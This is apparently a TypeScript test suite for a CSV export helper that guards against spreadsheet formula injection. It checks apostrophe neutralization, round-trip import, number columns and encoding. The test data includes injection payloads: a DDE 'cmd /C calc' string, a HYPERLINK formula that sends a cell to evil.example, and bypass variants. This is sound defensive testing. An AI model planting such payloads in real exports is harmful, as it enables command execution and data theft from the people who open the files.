import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { buffer } from 'node:stream/consumers';
import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { neutralize, readSafeCsv, safeCsvStream, toSafeCsv, unneutralize, type CsvColumn } from './csv-safe.ts';

/** Case B19: organization names that spreadsheets would run as formulas, and a phone number. */
const B19 = JSON.parse(readFileSync(new URL('../../test/fixtures/cases/B19.json', import.meta.url), 'utf8')) as {
  supporters_to_export: { org_name: string; phone: string }[];
};
const SUPPORTER_COLUMNS: CsvColumn[] = [
  { key: 'org_name', header: 'Organization' },
  { key: 'phone', header: 'Phone' },
];

/** The cells exactly as a spreadsheet receives them (RFC 4180 parsing only, nothing undone). */
function rawCells(csv: string): string[][] {
  return parse(csv, { bom: true }) as string[][];
}

/** Values that must all be neutralized: the OWASP characters and the ways around a naive check. */
const DANGEROUS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=cmd|\' /C calc\'!A0',
  ' =1+1',
  '\u00a0=1+1',
  "'=1+1",
  "''+1",
  "' -1",
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(A1)',
  '-',
  '=',
];
/** Values that are safe as they are and must stay unchanged. */
const HARMLESS = ['Solidaritätskreis', 'لجنة التضامن', '12', '1-2', 'a=b', "'hello", "'", "''", '', ' ', 'Mine workers (Kolwezi) – 2026', '"quoted"', 'a,b', 'line\nbreak'];

describe('CSV neutralization (case B19)', () => {
  test('every B19 name is written with a leading apostrophe; the phone becomes \'+442079460123; Solidaritätskreis is unchanged', () => {
    const csv = toSafeCsv(B19.supporters_to_export, { columns: SUPPORTER_COLUMNS });
    const [header, ...rows] = rawCells(csv);
    assert.deepEqual(header, ['Organization', 'Phone']);
    assert.deepEqual(
      rows.map((r) => r[0]),
      [`'=HYPERLINK("https://evil.example/?d="&B2,"Details")`, "'+SUM(1,1)", "'-2+3", "'@SUM(1,1)", "'\t=1+1", 'Solidaritätskreis'],
    );
    assert.deepEqual(
      rows.map((r) => r[1]),
      ['', '', '', '', '', "'+442079460123"],
    );
  });

  test('our importer reads the B19 export back to the original values, exactly', () => {
    const csv = toSafeCsv(B19.supporters_to_export, { columns: SUPPORTER_COLUMNS });
    assert.deepEqual(readSafeCsv(csv, { columns: true }), B19.supporters_to_export.map((s) => ({ Organization: s.org_name, Phone: s.phone })));
    // The same with csv-parse and unneutralize by hand.
    const viaParse = rawCells(csv).slice(1).map((r) => ({ org_name: unneutralize(r[0]!), phone: unneutralize(r[1]!) }));
    assert.deepEqual(viaParse, B19.supporters_to_export);
  });

  test('the whole family is neutralized: no written cell starts (after spaces or apostrophes) with a formula character unless behind the added apostrophe', () => {
    const rows = [...DANGEROUS, ...HARMLESS].map((v) => ({ v }));
    const cells = rawCells(toSafeCsv(rows, { columns: [{ key: 'v', header: 'v' }] })).slice(1).map((r) => r[0]!);
    for (const [i, value] of DANGEROUS.entries()) assert.equal(cells[i], `'${value}`, JSON.stringify(value));
    for (const [i, value] of HARMLESS.entries()) assert.equal(cells[DANGEROUS.length + i], value, JSON.stringify(value));
    assert.deepEqual(readSafeCsv(toSafeCsv(rows, { columns: [{ key: 'v', header: 'v' }] })).slice(1).map((r) => r[0]), [...DANGEROUS, ...HARMLESS]);
  });

  test('neutralize / unneutralize: one apostrophe added and removed, only where a formula could start', () => {
    assert.equal(neutralize('=1'), "'=1");
    assert.equal(unneutralize("'=1"), '=1');
    assert.equal(unneutralize("''=1"), "'=1", 'exactly one apostrophe');
    assert.equal(unneutralize("'hello"), "'hello");
    assert.equal(unneutralize("'"), "'");
    assert.equal(unneutralize(''), '');
    assert.equal(unneutralize('=1'), '=1', 'a cell without apostrophe is left alone');
    for (const v of [...DANGEROUS, ...HARMLESS, "'''=x", "'' x", 'x\'=']) assert.equal(unneutralize(neutralize(v)), v, JSON.stringify(v));
  });

  test('trusted number columns stay numbers: -12.34 is written unquoted; the same text in a text column is neutralized', () => {
    const columns: CsvColumn[] = [
      { key: 'date', header: 'Value date' },
      { key: 'amount', header: 'Amount', type: 'number' },
      { key: 'minor', header: 'Minor units', type: 'number' },
      { key: 'note', header: 'Note' },
    ];
    const csv = toSafeCsv(
      [
        { date: '2026-03-01', amount: '-12.34', minor: -1234, note: '-12.34' },
        { date: '2026-03-02', amount: '1000.00', minor: 9_007_199_254_740_993n, note: null },
        { date: '2026-03-03', amount: '0', minor: -0, note: undefined },
      ],
      { columns, bom: false },
    );
    const lines = csv.split('\r\n');
    assert.equal(lines[1], `"2026-03-01",-12.34,-1234,"'-12.34"`);
    assert.equal(lines[2], `"2026-03-02",1000.00,9007199254740993,`);
    assert.equal(lines[3], `"2026-03-03",0,0,`);
    assert.deepEqual(readSafeCsv(csv).slice(1), [
      ['2026-03-01', '-12.34', '-1234', '-12.34'],
      ['2026-03-02', '1000.00', '9007199254740993', ''],
      ['2026-03-03', '0', '0', ''],
    ]);
  });

  test('a number column refuses anything but a number: user text cannot pass through it', () => {
    const columns: CsvColumn[] = [{ key: 'amount', header: 'Amount', type: 'number' }];
    for (const amount of ['=1+1', '+5', '12,34', '1e3', ' 1', '-', '', '007', 'Solidarität', NaN, Infinity, true, new Date(0), { x: 1 }]) {
      assert.throws(() => toSafeCsv([{ amount }], { columns }), TypeError, String(amount));
    }
  });

  test('UTF-8 with a BOM by default (Excel), without when asked; CRLF after every record; every text cell quoted', () => {
    const rows = [{ name: 'Solidaritätskreis', city: 'a;=1+1' }];
    const columns: CsvColumn[] = [
      { key: 'name', header: 'Name' },
      { key: 'city', header: 'City' },
    ];
    const withBom = Buffer.from(toSafeCsv(rows, { columns }), 'utf8');
    assert.deepEqual([...withBom.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    assert.ok(withBom.includes(Buffer.from('Solidarit\u00e4tskreis', 'utf8')));
    const plain = toSafeCsv(rows, { columns, bom: false });
    assert.equal(plain, '"Name","City"\r\n"Solidaritätskreis","a;=1+1"\r\n');
    assert.equal(toSafeCsv(rows, { columns, bom: false, header: false }), '"Solidaritätskreis","a;=1+1"\r\n');
    const multiline = toSafeCsv([{ name: 'two\nlines', city: '' }], { columns, bom: false });
    assert.equal(multiline, '"Name","City"\r\n"two\nlines",""\r\n');
  });

  test('headers are neutralized too; the stream gives the same bytes as toSafeCsv', async () => {
    const columns: CsvColumn[] = [
      { key: 'a', header: '-Saldo' },
      { key: 'b', header: 'Betrag', type: 'number' },
    ];
    const rows = [
      { a: '+49 30 1234', b: '-5.00' },
      { a: '@home', b: 7 },
    ];
    const csv = toSafeCsv(rows, { columns });
    assert.equal(rawCells(csv)[0]![0], "'-Saldo");
    // Bytes, not decoded text: a decoder would swallow the BOM.
    assert.deepEqual(await buffer(Readable.from(rows).pipe(safeCsvStream({ columns }))), Buffer.from(csv, 'utf8'));
  });

  test('readSafeCsv reads a file with BOM and LF endings; a malformed file names the line', () => {
    assert.deepEqual(readSafeCsv('\ufeffemail,name\nanna@example.org,"\'=x"\n'), [
      ['email', 'name'],
      ['anna@example.org', '=x'],
    ]);
    assert.throws(() => readSafeCsv('a,b\r\n1,2\r\n3\r\n'), /line 3/);
  });
});
